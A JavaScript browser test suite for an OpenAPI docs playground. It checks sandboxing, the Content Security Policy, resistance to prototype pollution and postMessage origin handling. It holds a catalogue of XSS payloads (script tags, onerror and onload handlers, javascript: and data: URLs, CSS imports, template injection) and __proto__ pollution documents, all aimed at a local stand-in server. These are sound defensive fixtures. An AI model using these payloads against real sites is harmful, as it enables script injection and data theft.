import assert from "node:assert/strict";
import { createServer } from "node:http";
import test, { after, before } from "node:test";
import {
  button,
  counted,
  definitionsOf,
  dialog,
  docs,
  docsOf,
  hashOf,
  start,
  tab,
  textIn,
  write,
} from "./playground.mjs";

let house;
let stranger;
let strangersAddress;
const asked = [];

before(async () => {
  house = await start();
  // Another origin, which nobody is to ask anything.
  stranger = createServer((request, response) => {
    asked.push(request.url);
    response.writeHead(200, { "access-control-allow-origin": "*", "content-type": "text/javascript" });
    response.end("globalThis.pwned = 'from another origin';");
  });
  await new Promise((resolve) => stranger.listen(0, "127.0.0.1", resolve));
  strangersAddress = `http://127.0.0.1:${stranger.address().port}`;
});
after(async () => {
  await house?.close();
  stranger?.closeAllConnections?.();
  stranger?.close();
});

/** What the browser says when it blocks something. Whether the stranger was really asked, the stranger knows. */
const blocked = () => new RegExp(`Content Security Policy|sandbox|${strangersAddress}`);

/** The frame of the docs, to run the test's own script in. */
const frameOf = (page) => page.frames().find((frame) => frame.url().includes("/docs/"));

/** What a description, or anything else that is a text, can be made of. */
const attacks = () => [
  `<script>globalThis.pwned = 1</script><script src="${strangersAddress}/script.js"></script>`,
  `<img src=x onerror="globalThis.pwned = 2"><img src="${strangersAddress}/img.png">![md](${strangersAddress}/md.png)`,
  `<svg onload="globalThis.pwned = 3"><script>globalThis.pwned = 3</script><image href="${strangersAddress}/svg.png"/></svg>`,
  `<iframe src="${strangersAddress}/frame" srcdoc="<script>parent.pwned = 4; top.pwned = 4</script>"></iframe>`,
  `<style>@import "${strangersAddress}/style.css"; body { background: url(${strangersAddress}/background.png) }</style>`,
  `<link rel=stylesheet href="${strangersAddress}/link.css"><link rel=prefetch href="${strangersAddress}/prefetch">`,
  `<a href="javascript:pwned=5">js</a> [md](javascript:pwned=5) <a href="data:text/html,<script>top.pwned=5</script>">data</a>`,
  `<form action="${strangersAddress}/form"><button autofocus onfocus="globalThis.pwned = 6">go</button></form>`,
  `<object data="${strangersAddress}/object"></object><embed src="${strangersAddress}/embed"><video src="${strangersAddress}/video" autoplay>`,
  `<p style="background:url(${strangersAddress}/inline.png)">styled</p><base href="${strangersAddress}/base/">`,
  `<meta http-equiv="refresh" content="0;url=${strangersAddress}/refresh"><details open ontoggle="globalThis.pwned = 7">x</details>`,
  `"'><img src=x onerror=globalThis.pwned=8> \${globalThis.pwned = 8} {{constructor.constructor('pwned=8')()}}`,
];

/** A whole document whose every text is an attack. */
function hostileDefinitions() {
  const all = attacks().join("\n\n");
  const schema = {
    title: all,
    description: all,
    type: "string",
    pattern: attacks()[0],
    enum: attacks(),
    default: all,
    examples: attacks(),
  };
  const response = {
    description: all,
    content: {
      "application/json": { schema, examples: { [attacks()[1]]: { summary: all, description: all, value: all } } },
    },
  };
  const operation = {
    tags: attacks().slice(0, 2),
    summary: all,
    description: all,
    operationId: attacks()[7],
    externalDocs: { description: all, url: "javascript:pwned=9" },
    parameters: [{ name: attacks()[2], in: "query", description: all, schema }],
    requestBody: { description: all, content: { "text/html": { schema, example: all } } },
    responses: { 200: response, default: { description: all } },
    servers: [{ url: `${strangersAddress}/server`, description: all }],
  };
  return JSON.stringify({
    openapi: "3.1.0",
    info: {
      title: `Hostile ${all}`,
      summary: all,
      description: all,
      version: all,
      termsOfService: "javascript:pwned=10",
      contact: { name: all, url: "javascript:pwned=10", email: "a@example.com" },
      license: { name: all, url: "javascript:pwned=10" },
    },
    servers: [
      { url: "javascript:pwned=11", description: all },
      { url: `${strangersAddress}/{v}`, variables: { v: { default: all, enum: [all] } } },
    ],
    tags: attacks()
      .slice(0, 2)
      .map((name) => ({ name, description: all, externalDocs: { description: all, url: "javascript:pwned=12" } })),
    externalDocs: { description: all, url: "data:text/html,<script>top.pwned=13</script>" },
    paths: { [`/${attacks()[1].replaceAll(/[{}#?]/g, "")}`]: { post: operation } },
    webhooks: { [attacks()[3]]: { post: { ...operation, operationId: "other" } } },
    components: {
      schemas: { Model: { title: all, description: all, type: "object", properties: { [attacks()[1]]: schema } } },
      securitySchemes: { key: { type: "http", scheme: "bearer", description: all } },
    },
  });
}

test("texts of a link that hold HTML, script and addresses run nothing, reach nothing and ask nobody", async (t) => {
  const page = await house.visit(t, { hash: hashOf(hostileDefinitions()), expected: blocked() });
  await docs(page).getByRole("heading", { level: 1 }).filter({ hasText: "Hostile" }).waitFor();
  for (const operation of await docs(page).locator(".opblock-summary-control").all()) await operation.click();
  await docs(page).locator(".opblock-body").first().waitFor();
  await tab(page, "OpenAPI").click();
  await page.getByRole("textbox", { name: "The OpenAPI document" }).getByText("Hostile").first().waitFor();
  for (const name of ["Use this", "Share", "Open or paste"]) {
    await button(page, name).click();
    await dialog(page, name).waitFor();
    await page.keyboard.press("Escape");
  }
  await write(page, hostileDefinitions().replace("Hostile", "Hostile again"));
  await tab(page, "Docs").click();
  await docs(page).getByRole("heading", { level: 1 }).filter({ hasText: "Hostile again" }).waitFor();
  for (const frame of page.frames()) assert.equal(await frame.evaluate(() => globalThis.pwned), undefined, frame.url());
  assert.equal(page.frames().length, 2);
  assert.equal(await docs(page).locator("script:not([src]), iframe, object, embed, [onerror], [onload]").count(), 0);
  assert.deepEqual(asked, []);
});

test("the frame of the docs has no origin: neither the page nor any storage is within its reach", async (t) => {
  const page = await house.visit(t, { expected: /Blocked a frame|sandbox|Content Security Policy|Unsafe attempt/i });
  await docsOf(page, "Subscriptions");
  const reached = await frameOf(page).evaluate(async (address) => {
    const attempts = {
      origin: () => self.origin,
      localStorage: () => localStorage.length,
      sessionStorage: () => sessionStorage.length,
      indexedDB: () =>
        new Promise((resolve, reject) => Object.assign(indexedDB.open("x"), { onsuccess: resolve, onerror: reject })),
      cookie: () => document.cookie,
      parentDocument: () => parent.document.title,
      parentLocation: () => parent.location.href,
      topNavigation: () => {
        top.location = `${address}/top`;
      },
      popup: () => open(`${address}/popup`).closed,
      fetch: () => fetch(`${address}/fetch`),
      ownFetch: () => fetch(location.href),
      beacon: () => navigator.sendBeacon(`${address}/beacon`),
      eval: () => new Function("return 1")(),
    };
    const results = {};
    // Where the browser's tools begin to evaluate, they may do what the policy forbids.
    await new Promise((next) => setTimeout(next));
    for (const [name, attempt] of Object.entries(attempts)) {
      try {
        results[name] = String(await attempt());
      } catch (error) {
        results[name] = error.name;
      }
    }
    return results;
  }, strangersAddress);
  assert.equal(reached.origin, "null");
  const denied = [
    "localStorage",
    "sessionStorage",
    "indexedDB",
    "cookie",
    "parentDocument",
    "parentLocation",
    "topNavigation",
  ];
  for (const name of denied) assert.equal(reached[name], "SecurityError", name);
  for (const name of ["fetch", "ownFetch", "popup"]) assert.equal(reached[name], "TypeError", name);
  assert.equal(reached.eval, "EvalError");
  assert.equal(new URL(page.url()).origin, house.origin);
  assert.deepEqual(asked, []);
});

test("the policy of page and frame names no inline script and no eval, and blocks them", async (t) => {
  const page = await house.visit(t, { expected: blocked() });
  await docsOf(page, "Subscriptions");
  for (const frame of page.frames()) {
    const policy = await frame.locator("meta[http-equiv='Content-Security-Policy']").getAttribute("content");
    const directives = Object.fromEntries(policy.split(";").map((one) => one.trim().split(/\s+(.*)/s)));
    assert.equal(directives["default-src"], "'none'");
    assert.doesNotMatch(
      directives["script-src"],
      /unsafe-inline|unsafe-eval(?<!wasm-unsafe-eval)|\*|https?:|data:|blob:/,
    );
    const found = await frame.evaluate(async (address) => {
      const violations = [];
      document.addEventListener("securitypolicyviolation", (event) => violations.push(event.effectiveDirective));
      const add = (tag, properties) => document.body.append(Object.assign(document.createElement(tag), properties));
      add("script", { textContent: "globalThis.pwned = 'inline'" });
      add("script", { src: `${address}/script.js` });
      add("script", { src: "data:text/javascript,globalThis.pwned='data'" });
      add("img", { src: `${address}/img.png` });
      document.body.insertAdjacentHTML("beforeend", "<img src='data:,' onerror='globalThis.pwned = 1'>");
      location.href = "javascript:pwned=2";
      const end = Date.now() + 20_000;
      while (violations.length < 6 && Date.now() < end) await new Promise((next) => setTimeout(next, 20));
      return { violations, pwned: globalThis.pwned };
    }, strangersAddress);
    assert.equal(found.pwned, undefined);
    assert.ok(
      ["script-src-elem", "script-src-attr", "img-src"].every((one) => found.violations.includes(one)),
      `${found.violations}`,
    );
  }
  assert.deepEqual(asked, []);
});

const keys = ["__proto__", "constructor", "prototype"];
const inYaml = `info: { title: Polluted, version: "1", x-a: { __proto__: { polluted: 1 }, constructor: { prototype: { polluted: 1 } } } }
models:
${keys.map((key) => `  ${key}: { ${keys.map((field) => `${field}: string`).join(", ")} }`).join("\n")}
  Usual: { ${keys.map((key) => `${key}: ${key}`).join(", ")} }
webhooks:
${keys.map((key) => `  ${key}: { post: { name: hook_${key}, body: ${key} } }`).join("\n")}
paths:
${keys.map((key) => `  /${key}: { get: { name: ${key}, tags: [${key}], query: { ${key}: int }, returns: Usual } }`).join("\n")}
components:
  examples: { ${keys.map((key) => `${key}: { value: { __proto__: { polluted: 1 } } }`).join(", ")} }
`;
const polluter = '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},"prototype":{"polluted":1}}';
const inJson = `{"openapi":"3.1.0","info":{"title":"Polluted","version":"1","x-a":${polluter}},"paths":{"/a":{"get":{"x-b":${polluter},
"responses":{"200":{"description":"","headers":{"__proto__":{"schema":{"type":"string"}}},"content":{"application/json":{"schema":{"type":"object",
"properties":{"__proto__":{"type":"object","properties":{"polluted":{"default":1}}},"constructor":{"type":"object"}},"default":${polluter},
"examples":[${polluter}]},"example":${polluter}}}}}}}},"components":{"schemas":{"__proto__":{"default":${polluter}},"constructor":{},"prototype":{}}}}`;
for (const [syntax, text] of Object.entries({ YAML: inYaml, JSON: inJson })) {
  test(`keys like __proto__ change no object of page, frame or worker: ${syntax}`, async (t) => {
    const page = await house.visit(t, { hash: hashOf(text) });
    // Of the components that nothing refers to.
    await counted(page, "3 infos");
    await docsOf(page, "Polluted");
    for (const operation of await docs(page).locator(".opblock-summary-control").all()) await operation.click();
    await tab(page, "OpenAPI").click();
    await page
      .getByRole("textbox", { name: "The OpenAPI document" })
      .getByText('"Polluted"', { exact: true })
      .waitFor();
    assert.equal(page.workers().length, 1);
    for (const realm of [...page.frames(), ...page.workers()]) {
      const found = await realm.evaluate(() => [
        {}.polluted,
        [].polluted,
        (() => {}).polluted,
        Object.keys(Object.prototype).length,
        Object.getPrototypeOf(Object.prototype),
      ]);
      assert.deepEqual(found, [undefined, undefined, undefined, 0, null], realm.url());
    }
    await write(page, definitionsOf("Clean"));
    await tab(page, "Docs").click();
    await docsOf(page, "Clean");
  });
}

test("a message from another window than the docs' frame is ignored", async (t) => {
  const page = await house.visit(t);
  await docsOf(page, "Subscriptions");
  await page.evaluate(() => {
    globalThis.opened = 0;
    globalThis.open = () => {
      globalThis.opened += 1;
    };
    const messages = [{ kind: "link", address: "https://example.com/" }, { kind: "shown", id: 1 }, { kind: "loaded" }];
    for (const message of messages) postMessage(message, "*");
  });
  // The frame, too, hears only the page: here it is told something by itself.
  await frameOf(page).evaluate(() => {
    postMessage(
      { kind: "show", id: 7, json: '{"openapi":"3.1.0","info":{"title":"Foreign","version":"1"},"paths":{}}' },
      "*",
    );
    return new Promise((resolve) => setTimeout(resolve));
  });
  await write(page, definitionsOf("Own"));
  await docsOf(page, "Own");
  assert.equal(await page.evaluate(() => globalThis.opened), 0);
  assert.equal(await docs(page).getByText("Foreign").count(), 0);
  assert.match(await textIn(page), /title: Own/);
});
